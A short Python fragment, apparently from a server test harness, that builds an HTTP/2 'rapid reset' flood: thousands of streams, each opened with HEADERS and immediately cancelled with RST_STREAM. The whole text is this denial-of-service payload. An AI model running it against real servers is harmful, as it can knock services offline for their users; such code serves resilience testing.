streams = range(1, 6000, 2)
flood = b"".join(frame(HEADERS, END_HEADERS, n, REQUEST) + frame(RST_STREAM, 0, n, bytes(4)) for n in streams)
talk(("client", PREFACE + frame(SETTINGS, 0, 0) + flood))
